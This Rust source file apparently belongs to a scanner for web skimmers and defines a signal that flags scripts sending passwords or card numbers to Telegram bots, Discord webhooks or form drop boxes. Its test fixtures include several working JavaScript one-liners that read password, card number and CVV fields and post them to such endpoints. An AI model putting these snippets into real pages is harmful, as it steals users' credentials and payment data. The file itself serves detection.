//! `secret-to-drop-box`.

use crate::facts::Atom;
use crate::signals::answered::is_answer_read;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-to-drop-box",
    description: "The script sends passwords, codes or card numbers to a public drop box or a chat bot.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::SecretToDropBox])],
    within: 0,
    only_if: Some(is_dropped),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var p=document.getElementById('password').value;fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',body:JSON.stringify({chat_id:c,text:'Pass: '+p})})",
            "const d=Object.fromEntries(new FormData(f));const m=`Card: ${d.cardNumber} ${d.cvv}`;fetch(`https://c.example/bot${t}/sendMessage`,{method:'POST',body:JSON.stringify({chat_id:i,text:m})})",
            "const q=new URLSearchParams({mail:u.value,pass:document.getElementById('password').value});fetch(`https://script.google.com/macros/s/a/exec?${q}`)",
            "x=new XMLHttpRequest;x.open('POST','https://discord.com/api/webhooks/1/a');x.send(JSON.stringify({content:'Password: '+document.forms[0].password.value}))",
            "const d='https://script.google.com/macros/s/a/exec';fetch('/menu').then(r=>r.json()).then(draw);fetch(d,{method:'POST',body:JSON.stringify({u:m.value,p:document.getElementById('password').value})});$.get('/news',n=>{show(n)})",
        ],
        without: &[
            "fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})",
            "window.open('https://t.me/share/url?url='+encodeURIComponent(location.href))",
            "fetch('/api/login',{method:'POST',body:JSON.stringify({email:m.value,password:p.value})})",
            "fetch('https://app.workers.dev/login',{method:'POST',body:JSON.stringify({email:m.value,password:p.value})})",
            "fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',body:JSON.stringify({chat_id:c,text:'Name: '+n.value+' Phone: '+p.value})})",
            r#"const api='https://script.google.com/macros/s/a/exec';f.onsubmit=async e=>{e.preventDefault();const r=await fetch(api+'?action=login&u='+f.user.value+'&password='+document.getElementById('password').value);const o=await r.json();if(o.ok)location.href='marks.html'}"#,
        ],
    },
};

/// Whether it is a bot, a webhook or a service for forms, or nobody reads the answer of the request. Small sites and lessons keep their
/// accounts in a table that answers.
fn is_dropped(evidence: &Evidence<'_>, held: Held) -> bool {
    has_other_than_tables(evidence) || !is_answer_read(Near::new(evidence, held, 0), held.last as usize)
}

/// Whether the script has a box that is no table, or none that is known by its address.
pub(super) fn has_other_than_tables(evidence: &Evidence<'_>) -> bool {
    let stream = evidence.stream;
    let boxes = evidence.facts.iter().filter(|fact| matches!(fact.atom, Atom::DropBox | Atom::BotCall));
    let is_table = |at: u32| {
        let text = stream.text(&stream.items()[at as usize]).to_ascii_lowercase();
        TABLES.iter().any(|table| text.contains(table))
    };
    let mut known = boxes.take(MANY).map(|fact| is_table(fact.at)).peekable();
    known.peek().is_none() || known.any(|table| !table)
}

/// Tables on the web.
const TABLES: &[&str] = &["mockapi.io", "sheetdb.io", "sheet.best", "jsonbin.io", "script.google.com/macros"];
/// Boxes that are looked at.
const MANY: usize = 64;
